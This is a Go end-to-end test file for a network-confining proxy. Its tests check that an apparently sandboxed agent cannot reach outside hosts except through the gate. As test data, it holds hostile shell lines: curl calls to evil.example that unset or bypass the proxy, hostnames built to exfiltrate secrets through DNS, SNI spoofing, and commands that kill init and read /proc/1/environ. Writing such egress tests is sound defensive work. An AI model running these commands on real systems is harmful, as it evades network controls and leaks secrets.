//go:build linux

package e2e

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/miekg/dns"
)

// TestN11NoOtherWayOut (row N11, inside): without the proxy, over every kind of
// socket there is, nothing leaves the computer; through the gate it does.
func TestN11NoOtherWayOut(t *testing.T) {
	both(t, func(t *testing.T, h *home) {
		u := newUpstream(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = fmt.Fprint(w, "hello") }), "shop.example")
		outside := newCanary(t)
		abstract := fmt.Sprintf("ambit-e2e-%d-%s", os.Getpid(), filepath.Base(filepath.Dir(h.dir)))
		l, err := net.Listen("unix", "@"+abstract)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = l.Close() })
		h.deploy(manifest("a", u.rule("shop.example")))
		h.plant("a")
		shop := fmt.Sprintf("shop.example:%d", u.port)
		if got := h.attack("a", "ask", "-connect", shop, "-sni", "shop.example", "-header", shop); len(got) != 1 || !got[0].Worked {
			t.Errorf("the attacker's allowed request: %+v", got)
		}
		tried := h.attack("a", "out", "-host", outside.addr.String(), "-abstract", abstract)
		if len(tried) < 60 {
			t.Errorf("only %d attempts were made", len(tried))
		}
		for _, a := range tried {
			if a.Worked {
				t.Errorf("%s worked: %s", a.Try, a.Detail)
			}
		}
		for _, line := range []string{
			"unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy ALL_PROXY; curl -sS -m 5 -k https://evil.example/",
			"NO_PROXY='*' no_proxy='*' curl -sS -m 5 -k https://evil.example/",
			"curl -sS -m 5 -k --noproxy '*' https://1.1.1.1/",
			"curl -sS -m 5 --noproxy '*' http://" + outside.addr.String() + "/",
			"curl -sS -m 2 --proxy socks5h://127.0.0.1:3128 https://evil.example/",
			"curl -sS -m 5 --noproxy '*' --resolve evil.example:443:1.1.1.1 -k https://evil.example/",
		} {
			if r := h.sh("a", line); r.code == 0 {
				t.Errorf("%s: %+v", line, r)
			}
		}
		if got := outside.arrived(t); len(got) > 0 {
			t.Errorf("reached the host: %v", got)
		}
		if r := h.sh("a", "kill -0 1 || kill -9 1; cat /proc/1/maps /proc/1/environ"); r.code == 0 || r.stdout != "" {
			t.Errorf("the agent may touch init: %+v", r)
		}
	})
}

// TestN11DeniedNamesAreNotAsked (row N11, inside): the host's resolver hears of
// the names that a rule allows and of no other. What it answers is vetted (row
// S2).
func TestN11DeniedNamesAreNotAsked(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("this test puts its own resolver in place of the host's, which needs root")
	}
	resolver := newResolver(t)
	u := newUpstream(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = fmt.Fprint(w, "hello") }), "asked.example")
	h := makeHome(t, ordinaryUser)
	conf := filepath.Join(filepath.Dir(h.dir), "resolv.conf")
	if err := os.WriteFile(conf, []byte("nameserver "+resolverIP+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	h.inOwnMounts("mount --bind " + conf + " /etc/resolv.conf")
	h.serve()
	h.deploy(manifest("a", strings.Replace(u.rule("asked.example"), "      resolve: [127.0.0.1]\n", "", 1)+"    - {host: inner.example, ports: ["+fmt.Sprint(u.port)+"]}\n"))
	h.plant("a")
	if r := h.sh("a", "curl -sS "+u.url("asked.example", "/")); r.stdout != "hello" {
		t.Fatalf("the allowed name, resolved by the test's resolver: %+v", r)
	}
	h.sh("a", "curl -sS -m 5 https://secret-1234.evil.example/; curl -sS -m 5 --noproxy '*' https://secret-1234.evil.example/; curl -sS -m 5 https://x.asked.example/; getent hosts secret.evil.example")
	h.attack("a", "out", "-host", "127.0.0.1:1", "-abstract", "none")
	h.attack("a", "ask", "-connect", fmt.Sprintf("asked.example:%d", u.port), "-sni", "secret.evil.example", "-header", "secret.evil.example")
	// Row S2: an allowed name that resolves to the host's loopback.
	if r := h.sh("a", "curl -sS "+u.url("inner.example", "/")); !strings.Contains(r.stdout, "urn:ambit:problem:private-address") {
		t.Errorf("an allowed name with a private address: %+v", r)
	}
	asked := resolver.names()
	if !slices.Contains(asked, "asked.example.") {
		t.Errorf("the test's resolver was not used: %v", asked)
	}
	for _, name := range asked {
		if name != "asked.example." && name != "inner.example." {
			t.Errorf("the host's resolver was asked for %s", name)
		}
	}
}

const resolverIP = "127.0.0.153"

// resolver answers every name with 127.0.0.1 and keeps what it was asked.
type resolver struct {
	mu    sync.Mutex
	asked []string
}

func newResolver(t *testing.T) *resolver {
	t.Helper()
	r := &resolver{}
	for _, network := range []string{"udp", "tcp"} {
		s := &dns.Server{Addr: resolverIP + ":53", Net: network, Handler: dns.HandlerFunc(r.answer)}
		up := make(chan struct{})
		s.NotifyStartedFunc = func() { close(up) }
		failed := make(chan error, 1)
		go func() { failed <- s.ListenAndServe() }()
		select {
		case <-up:
		case err := <-failed:
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = s.Shutdown() })
	}
	return r
}

func (r *resolver) answer(w dns.ResponseWriter, q *dns.Msg) {
	m := new(dns.Msg)
	m.SetReply(q)
	r.mu.Lock()
	for _, question := range q.Question {
		r.asked = append(r.asked, strings.ToLower(question.Name))
		if question.Qtype == dns.TypeA {
			m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: question.Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: net.IPv4(127, 0, 0, 1)})
		}
	}
	r.mu.Unlock()
	_ = w.WriteMsg(m)
}

func (r *resolver) names() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.asked)
}
